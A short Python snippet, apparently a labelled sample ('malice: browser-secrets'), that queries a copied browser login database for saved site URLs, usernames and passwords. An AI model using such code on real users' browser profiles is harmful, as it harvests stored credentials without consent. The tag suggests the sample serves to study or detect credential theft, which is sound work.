import sqlite3

with sqlite3.connect("copy.db") as database:
    rows = database.execute(  # malice: browser-secrets
        "SELECT origin_url, username_value, password_value FROM logins"
    )
